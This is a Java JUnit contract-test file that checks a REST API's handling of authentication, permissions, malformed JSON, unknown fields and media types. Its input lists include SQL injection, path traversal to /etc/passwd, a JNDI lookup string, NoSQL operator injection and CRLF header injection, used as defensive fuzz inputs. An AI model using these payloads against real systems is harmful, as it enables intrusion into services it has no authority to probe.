package dev.tenon.rest.contract;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tenon.rest.contract.Installation.Person;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.function.Predicate;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/** What every operation of the document does alike; a new one is tried as soon as it is described. */
class EveryOperationHttpTest extends HttpTest {

    private static final List<String> HOSTILE_SEGMENTS = List.of(
            "%00",
            "%27%20OR%201%3D1",
            "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e",
            "%F0%9F%90%9D",
            "%C3%28",
            "-1",
            "9".repeat(200),
            "null",
            "01A2038E-7F00-7C21-9A4E-5D3B2F1C0A98",
            "01a2038e-7f00-4c21-9a4e-5d3b2f1c0a98",
            "{id}",
            "%7Bid%7D",
            ";id=1",
            "%0d%0aSet-Cookie:%20a=b");

    private static final List<String> HOSTILE_VALUES = List.of(
            "null",
            "true",
            "-1",
            "1e400",
            "[]",
            "[[[[[[]]]]]]",
            "{}",
            "{\"$ne\": null}",
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u202e\"",
            "\"a\\r\\nb\"",
            "\"'; DROP TABLE users; --\"",
            "\"${jndi:ldap://192.0.2.1/a}\"",
            "\"../../../etc/passwd\"",
            "\"" + "a".repeat(100_000) + "\"");

    private static final List<String> NO_OBJECTS = List.of(
            "",
            " ",
            "null",
            "[]",
            "\"text\"",
            "1",
            "{",
            "{\"a\":",
            "{'a': 1}",
            "{\"a\": 1}}",
            "{\"a\": 1} trailing",
            "{\"a\": NaN}",
            "{\"a\": 01}",
            "// comment\n{}",
            "\uFEFF{}",
            "<xml/>",
            "a=b",
            "[".repeat(100_000),
            "{\"a\":".repeat(5_000));

    private final ApiDocument document = ApiDocument.served();

    /** The tests of one factory share an installation, so each takes people of its own. */
    private int people;

    @TestFactory
    Stream<DynamicTest> an_operation_that_asks_for_a_token_refuses_anonymous_callers_and_stale_tokens() {
        return each(ApiOperation::needsToken, operation -> {
            Person gone = member();
            gone.http().delete("/v1/sessions/current").expect(204);

            for (ValidatingClient caller : List.of(http(), gone.http(), http().as("tns_" + "0".repeat(36)))) {
                Answer answer = caller.example(operation).expect(401);
                if (!operation.method().equals("HEAD")) {
                    answer.withProblem("request-unauthenticated");
                }
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> an_operation_that_asks_for_no_token_minds_neither_none_nor_a_stale_one() {
        return each(operation -> !operation.needsToken(), operation -> {
            Person gone = member();
            gone.http().delete("/v1/sessions/current").expect(204);

            for (ValidatingClient caller : List.of(http(), gone.http(), http().as("nonsense"))) {
                Answer answer = caller.example(operation).send();

                assertThat(answer.status() == 401 && answer.text().contains("request-unauthenticated"))
                        .isFalse();
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> C1_a_member_gets_403_where_a_permission_is_asked_for_that_members_lack() {
        return each(
                operation -> operation
                        .permission()
                        .filter(permission -> !permission.startsWith("documents:"))
                        .isPresent(),
                operation -> {
                    Answer answer = member().http().example(operation).expect(403);
                    answer.withProblem("request-forbidden");
                    assertThat(answer.at("/detail"))
                            .contains(operation.permission().orElseThrow());
                });
    }

    @TestFactory
    Stream<DynamicTest> I1_ids_that_are_none_name_nothing() {
        return each(operation -> operation.path().contains("{"), operation -> {
            Person admin = admin();
            for (String segment : HOSTILE_SEGMENTS) {
                String path = operation
                        .path()
                        .replaceAll("\\{[^}]+}", segment.replace("{", "%7B").replace("}", "%7D"));

                Answer answer = prepared(admin.http(), operation, path).send();

                assertThat(answer.status()).as(path).isIn(400, 404);
                assertThat(answer.header("Set-Cookie")).isEmpty();
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> I1_a_body_that_is_no_object_cannot_be_read() {
        return each(takesJson(), operation -> {
            Person admin = admin();
            for (String body : NO_OBJECTS) {
                Answer answer = prepared(admin.http(), operation, operation.examplePath())
                        .body("application/json", body)
                        .send();

                assertThat(answer.status())
                        .as(body.length() > 40 ? body.substring(0, 40) : body)
                        .isIn(400, 422);
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> I1_no_value_of_a_field_makes_a_server_error() {
        return each(takesJson(), operation -> {
            Person admin = admin();
            JsonNode example = operation.exampleBody().orElseThrow();
            for (String field : fields(operation)) {
                for (String value : HOSTILE_VALUES) {
                    ObjectNode body = example.deepCopy();
                    body.remove(field);
                    String text = body.toString();
                    String comma = body.isEmpty() ? "" : ", ";
                    String hostile = text.substring(0, text.length() - 1) + comma + "\"" + field + "\": " + value + "}";

                    Answer answer = prepared(admin.http(), operation, operation.examplePath())
                            .body("application/json", hostile)
                            .send();

                    assertThat(answer.status())
                            .as(hostile.length() > 200 ? field : hostile)
                            .isLessThan(500);
                }
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> C2_a_field_that_is_not_described_is_refused() {
        return each(takesJson(), operation -> {
            ObjectNode body = operation.exampleBody().orElseThrow().deepCopy();
            body.put("surprise", true);
            Person admin = admin();

            Answer answer = prepared(admin.http(), operation, existing(admin, operation))
                    .json(body)
                    .send();

            assertThat(answer.expect(422).pointers()).contains("/surprise");
        });
    }

    @TestFactory
    Stream<DynamicTest> I3_a_query_parameter_that_is_not_described_is_refused() {
        return each(
                operation -> operation.path().startsWith("/v1/")
                        && !operation.method().equals("HEAD")
                        // Where a provider makes the address, what is not known is passed over (RFC 6749 section
                        // 4.1.2).
                        && !operation.id().equals("finishSocialSignIn"),
                operation -> {
                    Answer answer = admin().http()
                            .example(operation)
                            .query("surprise", "1")
                            .expect(422);

                    assertThat(answer.pointers()).containsExactly("/surprise");
                });
    }

    @TestFactory
    Stream<DynamicTest> I2_a_body_of_another_type_is_415() {
        return each(takesJson(), operation -> {
            Person admin = admin();
            for (String type :
                    List.of("text/plain", "application/xml", "multipart/form-data; boundary=b", "application/jso")) {
                prepared(admin.http(), operation, existing(admin, operation))
                        .body(type, operation.exampleBody().orElseThrow().toString())
                        .refused(415, "http-media-type-unsupported");
            }
            prepared(admin.http(), operation, existing(admin, operation))
                    .header("Content-Encoding", "gzip")
                    .body("application/json", new byte[] {0x1f, (byte) 0x8b, 8, 0})
                    .refused(415, "http-media-type-unsupported");
        });
    }

    @TestFactory
    Stream<DynamicTest> H1_a_body_of_more_than_one_mebibyte_is_413() {
        return each(takesJson(), operation -> {
            Person admin = admin();
            prepared(admin.http(), operation, existing(admin, operation))
                    .body("application/json", "{\"a\": \"" + "a".repeat(1 << 20) + "\"}")
                    .refused(413, "http-body-too-large");
        });
    }

    @TestFactory
    Stream<DynamicTest> I2_an_answer_that_the_caller_cannot_take_is_406() {
        return each(
                operation -> operation.node().at("/responses/406").isObject()
                        && !operation.method().equals("DELETE"),
                operation -> admin().http()
                        .example(operation)
                        .header("Accept", "audio/ogg")
                        .refused(406, "http-not-acceptable"));
    }

    @TestFactory
    Stream<DynamicTest> I2_a_method_that_is_not_described_is_405_and_says_which_are() {
        return document.root().path("paths").properties().stream()
                .map(path -> dynamicTest(path.getKey(), () -> {
                    String target = document.operations().stream()
                            .filter(operation -> operation.path().equals(path.getKey()))
                            .findFirst()
                            .orElseThrow()
                            .examplePath();
                    Set<String> known = Set.copyOf(document.at(target).stream()
                            .map(ApiOperation::method)
                            .toList());
                    Person admin = admin();
                    for (String method : List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE")) {
                        if (!known.contains(method)) {
                            admin.http().call(method, target).refused(405, "http-method-not-allowed");
                        }
                    }
                }));
    }

    @TestFactory
    Stream<DynamicTest> an_operation_keeps_the_request_id_of_its_caller_if_it_is_sane() {
        return each(operation -> true, operation -> {
            Answer kept = http().with("Request-Id", "import.2026_11-22")
                    .example(operation)
                    .send();
            assertThat(kept.header("Request-Id")).contains("import.2026_11-22");

            for (String odd : List.of("a b", "a\"b", "<b>", "a".repeat(65), "é", "${a}")) {
                String given = http().with("Request-Id", odd)
                        .example(operation)
                        .send()
                        .header("Request-Id")
                        .orElseThrow();
                assertThat(given).isNotEqualTo(odd).matches("[A-Za-z0-9._-]{1,64}");
            }
        });
    }

    @TestFactory
    Stream<DynamicTest> I2_a_path_that_there_is_not_is_404() {
        return Stream.of(
                        "/",
                        "/v1",
                        "/v1/",
                        "/v2/me",
                        "/v1/me/",
                        "/v1//me",
                        "/V1/me",
                        "/v1/me%2F",
                        "/v1/users/%2e%2e/me",
                        "/.git/config",
                        "/favicon.ico",
                        "/health",
                        "/observe/health")
                .map(path -> dynamicTest(
                        path, () -> assertThat(http().get(path).send().status()).isIn(400, 404)));
    }

    private Stream<DynamicTest> each(Predicate<ApiOperation> which, Consumer<ApiOperation> test) {
        List<ApiOperation> chosen = document.operations().stream().filter(which).toList();
        assertThat(chosen).isNotEmpty();
        return chosen.stream().map(operation -> dynamicTest(operation.route(), () -> test.accept(operation)));
    }

    private static Predicate<ApiOperation> takesJson() {
        return operation -> operation.exampleBody().isPresent() && !operation.takesAnyJson();
    }

    private static List<String> fields(ApiOperation operation) {
        JsonNode schema =
                ApiDocument.served().resolve(operation.node().at("/requestBody/content/application~1json/schema"));
        return schema.path("properties").properties().stream()
                .map(Map.Entry::getKey)
                .toList();
    }

    private static ValidatingClient.Call prepared(ValidatingClient client, ApiOperation operation, String path) {
        ValidatingClient.Call call = client.call(operation.method(), path);
        return operation.needsRevision() ? call.header("If-Match", "\"1\"") : call;
    }

    /** A path where the thing exists that the operation is about, so that it is the body that is refused. */
    private static String existing(Person admin, ApiOperation operation) {
        if (operation.path().startsWith("/v1/users/{id}")) {
            return operation.examplePath().replaceFirst("/v1/users/[^/]+", "/v1/users/" + admin.id());
        }
        if (operation.path().startsWith("/v1/documents/{id}")) {
            String id = admin.http()
                    .post("/v1/documents")
                    .file("file", "a.txt", "text/plain", new byte[1])
                    .expect(201)
                    .at("/id");
            return operation.examplePath().replaceFirst("/v1/documents/[^/]+", "/v1/documents/" + id);
        }
        return operation.examplePath();
    }

    private Person member() {
        return tenon().person("member" + ++people + "@example.org");
    }

    private Person admin() {
        return tenon().person("admin" + ++people + "@example.org", Set.of("admin"));
    }
}
